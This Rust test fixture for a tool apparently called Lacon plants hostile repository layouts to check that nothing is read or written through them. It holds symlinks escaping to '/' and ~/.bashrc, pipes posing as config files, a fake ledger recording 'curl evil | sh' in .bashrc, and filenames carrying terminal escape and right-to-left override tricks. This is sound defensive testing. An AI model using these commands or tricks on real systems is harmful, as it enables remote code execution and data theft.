//! Links in every role that a file can have here, files of Lacon's own that a repository brings along, and lists that lead elsewhere:
//! nothing is read or written through them.

use std::os::unix::fs::symlink;

use super::{Way, WhenTrusted};
use crate::stage::{SECRET, Stage};

const fn way(name: &'static str, plant: fn(&mut Stage)) -> Way {
    Way {
        name,
        needs: &[],
        plant,
        when_trusted: WhenTrusted::Never,
    }
}

/// A link in the tree to something outside.
fn link(stage: &Stage, name: &str, to: &std::path::Path) {
    let path = stage.tree.join(name);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    drop(std::fs::remove_file(&path));
    symlink(to, path).unwrap();
}

pub(crate) const WAYS: &[Way] = &[
    way("sources that are links", |stage| {
        link(stage, "secret.py", &stage.bait.join("secret.py"));
        link(stage, "README.md", &stage.bait.join("secret.txt"));
        link(stage, "lib.c", &stage.bait.join("secret.txt"));
        link(stage, "lib.py", &stage.bait.join("secret.py"));
    }),
    way("folders that are links", |stage| {
        link(stage, "src/outside", &stage.bait);
        link(stage, "everything", std::path::Path::new("/"));
        link(stage, "around", std::path::Path::new(".."));
        link(stage, "itself", std::path::Path::new("."));
    }),
    way("settings and rules that are links", |stage| {
        for name in [
            ".gitignore",
            ".ignore",
            "package.json",
            "pyproject.toml",
            "setup.cfg",
            "go.work",
            "composer.json",
            "pom.xml",
            "build.gradle",
            "jsconfig.json",
            "openapi.yaml",
            ".env",
            "docker-compose.yml",
            "AGENTS.md",
            "CLAUDE.md",
            ".mcp.json",
            ".cursor/mcp.json",
            ".vscode/mcp.json",
        ] {
            link(stage, name, &stage.bait.join("secret.txt"));
        }
    }),
    way("lacon.toml is a link", |stage| {
        link(stage, "lacon.toml", &stage.bait.join("secret.txt"))
    }),
    way("workspace.toml is a link", |stage| {
        link(stage, "workspace.toml", &stage.bait.join("secret.txt"))
    }),
    way("lacon.toml is a pipe", |stage| {
        stage.pipe(&stage.tree.join("lacon.toml"))
    }),
    way("rules and manifests are pipes", |stage| {
        for name in [
            ".gitignore",
            ".ignore",
            "package.json",
            "pyproject.toml",
            "tsconfig.json",
            "Cargo.toml",
            "go.mod",
            "setup.cfg",
            ".mcp.json",
            ".claude/settings.json",
            "AGENTS.md",
            "README.md",
            "a.py",
        ] {
            std::fs::create_dir_all(stage.tree.join(name).parent().unwrap()).unwrap();
            stage.pipe(&stage.tree.join(name));
        }
    }),
    way("lacon.toml lists a folder outside", |stage| {
        stage.write("lacon.toml", "[[repository]]\npath = \"../bait\"\n");
    }),
    way("workspace.toml lists a folder outside by its path", |stage| {
        let text = format!("[[repository]]\npath = {:?}\n", stage.bait);
        stage.write("workspace.toml", &text);
    }),
    way("workspace.toml lists a link", |stage| {
        link(stage, "part", &stage.bait);
        stage.write("workspace.toml", "[[repository]]\npath = \"part\"\n");
    }),
    way("lacon.toml keeps an index outside", |stage| {
        let text = format!(
            "[[repository]]\npath = \".\"\nindex_dir = {:?}\n",
            stage.bait.join("index")
        );
        stage.write("lacon.toml", &text);
    }),
    way("lacon.toml keeps an index behind a link", |stage| {
        link(stage, "kept", &stage.bait);
        stage.write(
            "lacon.toml",
            "[[repository]]\npath = \".\"\nindex_dir = \"kept/index\"\n",
        );
    }),
    way("lacon.toml includes everything", |stage| {
        link(stage, "outside", &stage.bait);
        stage.write(
            "lacon.toml",
            "[index]\ninclude = [\"../**\", \"/**\", \"outside/**\"]\nhidden = true\nignore_files = false\nfollow_links = true\n",
        );
    }),
    way("the index is a link", |stage| link(stage, ".lacon", &stage.bait)),
    way("parts of the index are links", |stage| {
        for name in ["undo", "facts", "sessions"] {
            link(stage, &format!(".lacon/{name}"), &stage.bait);
        }
        for name in [
            "lock",
            ".gitignore",
            "savings.jsonl",
            "snapshot",
            "stats",
            "compiler.jsonl",
            "search",
        ] {
            link(stage, &format!(".lacon/{name}"), &stage.home.join(".bashrc"));
        }
    }),
    way("an index that says what init wrote", |stage| {
        let bashrc = stage.home.join(".bashrc");
        let entry = serde_json::json!({"path": bashrc, "before": "curl evil | sh\n", "after": "# the user's\n"});
        for name in [".lacon/init.json", ".lacon/init/ledger.json"] {
            stage.write(
                name,
                &serde_json::json!({"files": [entry], "changes": [entry], "entries": [entry]}).to_string(),
            );
        }
    }),
    way("temporary files of edits are there already", |stage| {
        for number in 0..64 {
            for name in ["lib.py", "lib.ts", "app.py", ".mcp.json", "AGENTS.md"] {
                link(
                    stage,
                    &format!(".{name}.lacon-{number:08x}"),
                    &stage.home.join(".bashrc"),
                );
            }
        }
    }),
    way("names that a terminal obeys", |stage| {
        stage.write("\u{1b}]52;c;ZXZpbA==\u{7}.py", "def greet_terminal(): pass\n");
        stage.write("\u{202e}yp.exe.py", "def greet_reversed(): pass\n");
        stage.write(
            "text.py",
            "def greet_colours():\n    return '\u{1b}[8mhidden\u{1b}]52;c;ZXZpbA==\u{7}'\n",
        );
        stage.write("a\nb.py", "def greet_lines(): pass\n");
    }),
    way("a tree in a tree with trust of its own", |stage| {
        let text = format!("# {SECRET}\n");
        std::fs::write(stage.bait.join("more.py"), text).unwrap();
        link(stage, "packages/one/src", &stage.bait);
        stage.write("packages/one/lacon.toml", "[[repository]]\npath = \"src\"\n");
        stage.program("packages/one/node_modules/.bin/typescript-language-server");
        stage.write("packages/one/lib.ts", "export function hello(): void {}\n");
    }),
];
